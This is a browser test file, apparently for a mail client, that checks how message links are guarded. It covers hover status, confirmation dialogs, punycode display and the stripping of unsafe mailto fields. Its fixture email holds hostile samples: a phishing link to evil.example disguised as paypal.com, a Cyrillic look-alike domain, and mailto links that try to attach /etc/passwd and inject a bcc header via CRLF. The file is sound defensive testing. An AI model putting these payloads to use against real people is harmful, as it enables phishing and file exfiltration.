/**
 * Links in a real message, in real Chromium (issue 13 §5): the pointer on a link shows where it
 * really goes at the bottom of the reading pane (punycode for a name that mixes scripts), never
 * its text; a link whose text names another site, or that goes to a local address, asks first in
 * plain words and opens nothing on Cancel or Escape; a mailto carrying attach= is not opened.
 * What the page hands to the host (window.open, which Electron turns into shell.openExternal) is
 * recorded in the page, and every new page the browser opens is counted.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { messageFrame, messageRow, requireChromium } from '../support/browser.js';
import { dovecotUnavailable } from '../support/dovecot.js';
import { startWebApp, type WebApp } from '../support/webapp.js';

const unavailable = dovecotUnavailable();
if (unavailable && process.env.CI) throw new Error(`Dovecot is required in CI: ${unavailable}`);
if (unavailable) console.warn(`Skipping the links browser suite: ${unavailable}`);
const suite = unavailable || !requireChromium('the links browser suite') ? describe.skip : describe;

function message(subject: string, type: string, body: string): Buffer {
  return Buffer.from(
    [
      'From: Service <service@example.org>',
      'To: bob@popbox.test',
      `Subject: ${subject}`,
      'Date: Thu, 26 Nov 2026 12:00:00 +0000',
      'MIME-Version: 1.0',
      `Content-Type: ${type}; charset=utf-8`,
      'Content-Transfer-Encoding: 8bit',
      '',
      body,
      '',
    ].join('\n'),
  );
}

const html = message(
  'Your account needs attention',
  'text/html',
  [
    '<p><a id="news" href="https://example.org/news?id=7">Read the news</a></p>',
    '<p><a id="phish" href="https://evil.example/login">https://paypal.com/signin</a></p>',
    '<p><a id="idn" href="https://раураl.com/account">Your account</a></p>',
    '<p><a id="router" href="http://192.168.1.1/admin">Router settings</a></p>',
    '<p><a id="attach" href="mailto:?attach=/etc/passwd">Write to us</a></p>',
    '<p><a id="mail" href="mailto:help@example.org?subject=Help&amp;attach=/etc/passwd&amp;bcc=spy@evil.example%0D%0ACc:x@evil.example">Mail help</a></p>',
    '<p id="text">Plain words, no link.</p>',
  ].join('\n'),
);
const plain = message('Router notes', 'text/plain', 'The admin page is at http://192.168.1.1/admin for now.\nThe manual: https://example.org/docs');

suite('links in Chromium', () => {
  let app: WebApp;
  let page: Page;
  const pagesOpened: string[] = [];

  const row = (subject: string) => messageRow(page, subject);
  const status = () => page.locator('.link-status');
  const opened = () => page.evaluate<string[]>('window.__opened');
  const bodyFrame = () => messageFrame(page);

  beforeAll(async () => {
    app = await startWebApp({
      user: { name: 'bob', password: 'bob-pw' },
      prepare: async (server, svc) => {
        await server.deliver('bob', [html, plain]);
        await svc.addAccount(
          { name: 'bob', host: '127.0.0.1', port: server.tlsPort, security: 'tls', user: 'bob', tlsFingerprint: server.fingerprint256, password: { source: 'keychain' } },
          'bob-pw',
        );
        const [outcome] = await svc.sync();
        expect(outcome?.ok).toBe(true);
      },
    });
    page = app.page;
    const context = page.context();
    // Nothing leaves this machine: a page the app opens gets an empty answer here.
    await context.route('**/*', (route) => (route.request().url().startsWith(app.host.origin) ? route.continue() : route.fulfill({ body: 'outside' })));
    // Counted, then closed: a page left in front would throttle the app's page behind it.
    context.on('page', (p) => {
      pagesOpened.push(p.url());
      void p
        .close()
        .then(() => page.bringToFront())
        .catch(() => {});
    });
    // What the page hands to the host: Electron's window-open handler gives exactly this URL to
    // the system. Recorded, then passed on for the browser to open as it would.
    await context.addInitScript(`(() => {
      window.__opened = [];
      const open = window.open.bind(window);
      window.open = (url, ...rest) => { window.__opened.push(String(url)); return String(url).startsWith('http') ? open(url, ...rest) : null; };
    })()`);
    await page.goto(app.host.url);
  }, 120_000);

  afterAll(async () => {
    await app?.close();
  });

  beforeEach(async () => {
    await page.evaluate('window.__opened.length = 0');
    pagesOpened.length = 0;
  });

  it('shows where a link really goes while the pointer is on it, never its text', async () => {
    await row('Your account needs attention').click();
    const frame = await bodyFrame();
    await frame.waitForSelector('#phish');
    await frame.hover('#news');
    await expect.poll(() => status().textContent()).toBe('https://example.org/news?id=7');
    await frame.hover('#phish');
    await expect.poll(() => status().textContent()).toBe('https://evil.example/login · asks before opening');
    // A name that mixes Cyrillic and Latin letters shows as the punycode the network uses.
    await frame.hover('#idn');
    await expect.poll(() => status().textContent()).toBe('https://xn--l-7sba6dbr.com/account (made to look like раураl.com) · asks before opening');
    await frame.hover('#attach');
    await expect.poll(() => status().textContent()).toBe('Popbox does not open this kind of link.');
    // Off the links, the status goes away.
    await frame.hover('#text');
    await expect.poll(() => status().count()).toBe(0);
    // The status sits at the bottom of the reading pane.
    await frame.hover('#news');
    const pane = (await page.getByRole('region', { name: 'Message' }).boundingBox())!;
    const line = (await status().boundingBox())!;
    expect(Math.abs(line.y + line.height - (pane.y + pane.height))).toBeLessThan(2);
    // Keyboard focus on a link shows it too, and Enter goes through the same check.
    await frame.focus('#router');
    await expect.poll(() => status().textContent()).toBe('http://192.168.1.1/admin · asks before opening');
    await page.keyboard.press('Enter');
    await page.getByRole('dialog', { name: 'Open this link?' }).waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0);
  });

  it('asks before opening a link whose text names another site, and opens nothing on Cancel or Escape', async () => {
    const frame = await bodyFrame();
    await frame.click('#phish');
    const dialog = page.getByRole('dialog', { name: 'Open this link?' });
    await dialog.waitFor();
    expect(await dialog.locator('.link-destination code').textContent()).toBe('https://evil.example/login');
    expect(await dialog.getByRole('listitem').allTextContents()).toEqual(['The link text shows paypal.com, but the link goes to evil.example.']);
    // Cancel has the focus: Enter on a surprise opens nothing.
    expect(await page.evaluate<string | null>('document.activeElement?.textContent ?? null')).toBe('Cancel');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    expect(await dialog.count()).toBe(0);

    await frame.click('#router');
    const again = page.getByRole('dialog', { name: 'Open this link?' });
    await again.waitFor();
    expect(await again.getByRole('listitem').allTextContents()).toEqual(['It goes to a device on your own network (192.168.1.1), such as a router or a printer, not to a website.']);
    await page.keyboard.press('Escape');
    expect(await again.count()).toBe(0);
    // An ordinary link opens at once, and it is the only thing that was opened.
    await frame.click('#news');
    await expect.poll(() => opened()).toEqual(['https://example.org/news?id=7']);
    await expect.poll(() => pagesOpened.length).toBe(1);
    expect(await page.getByRole('dialog').count()).toBe(0);
  });

  it('opens the exact destination once the user says so', async () => {
    const frame = await bodyFrame();
    await frame.click('#router');
    await page.getByRole('dialog', { name: 'Open this link?' }).getByRole('button', { name: 'Open link' }).click();
    await expect.poll(() => opened()).toEqual(['http://192.168.1.1/admin']);
    await expect.poll(() => pagesOpened.length).toBe(1);
  });

  it('opens a mailto only rebuilt from its safe fields, and not at all when nothing is left', async () => {
    const frame = await bodyFrame();
    await frame.click('#attach');
    await frame.click('#mail');
    await expect.poll(() => opened()).toEqual(['mailto:help@example.org?subject=Help']);
  });

  it('guards links in plain-text mail the same way', async () => {
    await row('Router notes').click();
    const link = page.locator('.plain-body a', { hasText: '192.168.1.1' });
    await link.hover();
    await expect.poll(() => status().textContent()).toBe('http://192.168.1.1/admin · asks before opening');
    await link.click();
    const dialog = page.getByRole('dialog', { name: 'Open this link?' });
    await dialog.waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await page.locator('.plain-body a', { hasText: 'example.org/docs' }).click();
    await expect.poll(() => opened()).toEqual(['https://example.org/docs']);
    expect(app.pageErrors).toEqual([]);
  });
});
